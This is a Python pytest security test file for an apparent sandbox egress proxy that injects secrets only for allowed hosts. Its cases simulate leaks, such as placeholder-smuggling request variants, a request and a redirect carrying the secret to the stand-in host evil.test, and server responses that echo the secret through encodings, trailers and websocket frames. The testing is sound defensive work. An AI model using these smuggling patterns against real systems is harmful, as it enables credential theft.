"""Code and site try together to see a secret's value, or to carry it elsewhere."""

from __future__ import annotations

import base64
import gzip
import json
import zlib
from collections.abc import Iterator
from urllib.parse import quote

import pytest

from cloche.egress.messages import GivenSecret
from cloche.model.egress import EgressPolicy, EgressRule, Secret
from tests.integration.dns_server import DnsServer
from tests.integration.door_guest import DoorProcess, StandInGuest, door_process
from tests.integration.door_world import Certificates
from tests.security.egress_secret_world import BASIC, OTHERS, PLACEHOLDER, SECRET, VALUE, Code, Site, request


@pytest.fixture
def door(dns: DnsServer, authority: Certificates) -> Iterator[DoorProcess]:
    """Wherever a test leads, the value is in nothing that the door writes or tells."""
    dns.add("evil.test", "127.0.0.1")
    with door_process(resolver=dns.address, upstream_authorities=authority.file) as door:
        yield door
        door.detach_all()
        door.close()
        audit = (door.home / "audit" / "egress.jsonl").read_bytes()
        events = b"".join(json.dumps(door.happened.get().data).encode() for _ in range(door.happened.qsize()))
        for form in (SECRET, base64.b64encode(SECRET), json.dumps(VALUE).encode()):
            assert form not in audit + events


@pytest.fixture
def site(authority: Certificates) -> Iterator[Site]:
    server = Site(authority.server("up.test", "evil.test"))
    try:
        yield server
    finally:
        server.close()


def attach(door: DoorProcess, guest: StandInGuest, site: Site, **more: object) -> None:
    hosts = ["up.test", "evil.test"]
    rule = EgressRule(hosts=hosts, ports=[str(site.port)], addresses=["127.0.0.0/8"], tls="inspect")
    secret = Secret(name="TOKEN", hosts=["up.test"], **more)  # type: ignore[arg-type]
    given = GivenSecret(secret=secret, value=VALUE, placeholder=PLACEHOLDER)
    door.attach(guest, EgressPolicy(rules=[rule]), secrets=[given])


CHUNKED = "Transfer-Encoding: chunked"
SPLIT = b"%x\r\n%s\r\n" % (20, PLACEHOLDER[:20].encode()) + b"%x\r\n%s\r\n0\r\n\r\n" % (26, PLACEHOLDER[20:].encode())
MISUSES = {
    "path": ({"line": f"GET /{PLACEHOLDER} HTTP/1.1"}, []),
    "query": ({"line": f"GET /?a={PLACEHOLDER} HTTP/1.1"}, []),
    "query, percent twice": ({"line": f"GET /?a={PLACEHOLDER.replace('s', '%2573')} HTTP/1.1"}, []),
    "method": ({"line": f"{PLACEHOLDER.upper()[:32]} / HTTP/1.1"}, []),
    "header name": ({}, [f"{PLACEHOLDER}: x"]),
    "connection": ({}, [f"Connection: {PLACEHOLDER}"]),
    "te": ({}, [f"TE: {PLACEHOLDER}"]),
    "expect": ({}, [f"Expect: {PLACEHOLDER}"]),
    "upgrade": ({}, ["Connection: upgrade", f"Upgrade: {PLACEHOLDER}"]),
    "folded": ({}, ["X: a", f" {PLACEHOLDER}"]),
    "upper case": ({}, [f"X: {PLACEHOLDER.upper()}"]),
    "another header": ({"headers": ["X-Key"]}, [f"Cookie: {PLACEHOLDER}"]),
    "base64": ({}, ["X: " + base64.b64encode(b"a" + PLACEHOLDER.encode()).decode()]),
    "bearer in basic": ({"places": ["header"]}, [f"Authorization: Basic {BASIC}"]),
    "body": ({"body": PLACEHOLDER.encode()}, [f"Content-Length: {len(PLACEHOLDER)}"]),
    "chunks": ({"body": SPLIT}, [CHUNKED]),
    "user info": ({"line": f"GET https://{PLACEHOLDER}@up.test/ HTTP/1.1"}, []),
}  # fmt: skip


@pytest.mark.parametrize("place", MISUSES)
def test_places_where_it_does_not_belong(door: DoorProcess, guest: StandInGuest, site: Site, place: str) -> None:
    more, headers = MISUSES[place]
    secret = {name: more.pop(name) for name in ("headers", "places") if name in more}
    attach(door, guest, site, **secret)
    answer = Code(door, guest, site).ask(request(site, *headers, **more))  # type: ignore[arg-type]
    more.update(secret)
    assert SECRET not in site.got and SECRET not in answer and quote(VALUE, safe="").encode() not in site.got
    assert b"HTTP/1.1 4" in answer[:12] or b"HTTP/1.1 501" in answer[:12] or PLACEHOLDER.encode() not in site.got


def test_another_host_gets_neither(door: DoorProcess, guest: StandInGuest, site: Site) -> None:
    attach(door, guest, site)
    answer = Code(door, guest, site, "evil.test").ask(request(site, f"A: {PLACEHOLDER}", host="evil.test"))
    assert b"secret_misused" in answer and site.got == b""


def test_a_site_that_leads_to_another_host(door: DoorProcess, guest: StandInGuest, site: Site) -> None:
    """What the code follows is told without the value, so nothing goes on to the other."""
    attach(door, guest, site)
    site.answer = [b"HTTP/1.1 302 Found\r\nLocation: https://evil.test/?t=%s\r\nContent-Length: 0\r\n\r\n" % SECRET]
    site.answer[0] = site.answer[0].replace(b"\r\nContent", b"\r\nConnection: close\r\nContent")
    answer = Code(door, guest, site).ask(request(site, f"Authorization: Bearer {PLACEHOLDER}"))
    assert SECRET in site.got and b"302" in answer and SECRET not in answer, answer


def test_a_placeholder_of_another_sandbox_is_just_text(
    door: DoorProcess, guest: StandInGuest, other: StandInGuest, site: Site
) -> None:
    attach(door, guest, site)
    given = GivenSecret(secret=Secret(name="T", hosts=["up.test"]), value="another value", placeholder=OTHERS)
    door.attach(other, EgressPolicy(), sandbox_id="sb_2", name="other", secrets=[given])
    Code(door, guest, site).ask(request(site, f"Authorization: Bearer {OTHERS}"))
    assert OTHERS.encode() in site.got and b"another value" not in site.got


def test_plain_http(door: DoorProcess, guest: StandInGuest, site: Site) -> None:
    attach(door, guest, site)
    stream = guest.connect("up.test", site.port)
    stream.socket.sendall(request(site, f"Authorization: Bearer {PLACEHOLDER}"))
    assert stream.answer() == {"ok": True}
    assert b"secret_misused" in stream.rest()
    assert site.got == b""


def test_a_site_that_cannot_prove_its_name(door: DoorProcess, guest: StandInGuest, authority: Certificates) -> None:
    impostor = Site(authority.server("evil.test"))
    try:
        attach(door, guest, impostor)
        answer = Code(door, guest, impostor).ask(request(impostor, f"Authorization: Bearer {PLACEHOLDER}"))
    finally:
        impostor.close()
    assert b"certificate is not valid" in answer and impostor.got == b""


def whole(body: bytes, *headers: bytes) -> list[bytes]:
    length = b"Content-Length: %d" % len(body)
    return [b"\r\n".join([b"HTTP/1.1 200 OK", b"Connection: close", length, *headers, b"", b""]) + body]


HEAD = b"HTTP/1.1 200 OK\r\nConnection: close\r\n"
ECHOES = {
    "body": whole(b"x" * 9000 + SECRET + b"y"),
    "byte by byte": [HEAD + b"Content-Length: %d\r\n\r\n" % len(SECRET), *(b"%c" % byte for byte in SECRET)],
    "chunks": [HEAD + b"Transfer-Encoding: chunked\r\n\r\n", *(b"1\r\n%c\r\n" % c for c in SECRET), b"0\r\n\r\n"],
    "until the end": [HEAD + b"\r\n" + SECRET],
    "header": whole(b"", b"X: a" + SECRET),
    "header name": whole(b"", b"v4lue-with-odd: x"),
    "cookie": whole(b"", b"Set-Cookie: a=" + quote(VALUE, safe="").encode()),
    "reason": [b"HTTP/1.1 500 " + SECRET + b"\r\nConnection: close\r\nContent-Length: 0\r\n\r\n"],
    "trailer": [HEAD + b"Transfer-Encoding: chunked\r\n\r\n0\r\nX: " + SECRET + b"\r\n\r\n"],
    "chunk extension": [HEAD + b"Transfer-Encoding: chunked\r\n\r\n1;a=" + SECRET + b"\r\nx\r\n0\r\n\r\n"],
    "hint": [b"HTTP/1.1 103 Early Hints\r\nLink: " + SECRET + b"\r\n\r\n", *whole(b"")],
    "gzip": whole(gzip.compress(SECRET), b"Content-Encoding: gzip"),
    "two members": whole(gzip.compress(SECRET[:9]) + gzip.compress(SECRET[9:]), b"Content-Encoding: gzip"),
    "deflate": whole(zlib.compress(SECRET), b"Content-Encoding: deflate"),
    "unreadable": whole(SECRET, b"Content-Encoding: br, " + SECRET),
    "json": whole(json.dumps({"a": VALUE}).encode()),
    "base64": whole(base64.b64encode(b"Bearer " + SECRET)),
    "percent": whole(quote(VALUE, safe="").lower().encode()),
    "no http": [b"HTTP/1.1 " + SECRET + b"\r\n\r\n"],
    "bad header": [HEAD + b"X:\0" + SECRET + b"\r\n\r\n"],
    "bad length": [HEAD + b"Content-Length: " + SECRET + b"\r\n\r\n"],
    "bad gzip": whole(b"\x1f\x8b" + SECRET, b"Content-Encoding: gzip"),
    "second answer": [*whole(b"ok"), b"HTTP/1.1 200 OK\r\nX: " + SECRET + b"\r\n\r\n"],
}  # fmt: skip


@pytest.mark.parametrize("way", ECHOES)
def test_a_site_that_gives_it_back(door: DoorProcess, guest: StandInGuest, site: Site, way: str) -> None:
    attach(door, guest, site)
    site.answer = ECHOES[way]
    answer = Code(door, guest, site).ask(request(site, f"Authorization: Bearer {PLACEHOLDER}"))
    assert SECRET in site.got
    assert answer.startswith(b"HTTP/1.1 ")
    for form in (SECRET, SECRET[:12], quote(VALUE, safe="").encode(), base64.b64encode(SECRET)[4:20], SECRET[9:]):
        assert form not in answer


def test_a_websocket_that_gives_it_back(door: DoorProcess, guest: StandInGuest, site: Site) -> None:
    attach(door, guest, site)
    switch = b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nX: " + SECRET
    site.answer = [switch + b"\r\n\r\n\x81\x16" + SECRET[:7], SECRET[7:]]
    code = Code(door, guest, site)
    asked = request(site, "Connection: Upgrade", "Upgrade: websocket", f"Authorization: Bearer {PLACEHOLDER}")
    answer = code.tls.ask(code.stream.socket, asked)
    while len(answer.partition(b"\r\n\r\n")[2]) < 24:
        answer += code.tls.ask(code.stream.socket, b"")
    assert SECRET in site.got and SECRET not in answer and SECRET[7:] not in answer
    # no value is put into frames, and they arrive as they are
    code.tls.ask(code.stream.socket, PLACEHOLDER.encode() + b"\r\n\r\n")
    assert PLACEHOLDER.encode() in site.got and site.got.count(SECRET) == 1
